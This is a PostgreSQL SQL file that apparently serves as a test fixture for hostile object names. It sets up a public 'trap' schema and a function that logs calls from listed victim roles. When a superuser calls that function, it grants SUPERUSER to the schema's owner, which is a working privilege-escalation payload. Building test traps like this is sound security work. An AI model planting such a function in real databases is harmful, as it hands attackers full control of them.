-- What the twins of hostile_names.sql call.
CREATE SCHEMA trap;
GRANT USAGE ON SCHEMA trap TO PUBLIC;
CREATE TABLE trap.victims (name pg_catalog.name PRIMARY KEY);
GRANT SELECT ON trap.victims TO PUBLIC;
CREATE FUNCTION trap.called(what pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
BEGIN
    IF EXISTS (SELECT FROM trap.victims WHERE name IN (session_user, current_user)) THEN
        RAISE LOG 'hostile call of % by %', what, current_user;
        IF (SELECT r.rolsuper FROM pg_roles r WHERE r.rolname = current_user) AND NOT pg_is_in_recovery()
           AND current_setting('transaction_read_only') = 'off' THEN
            EXECUTE format('ALTER ROLE %I SUPERUSER', (SELECT p.nspowner::regrole::name FROM pg_namespace p WHERE p.nspname = 'trap'));
        END IF;
    END IF;
    RETURN true;
END $$;
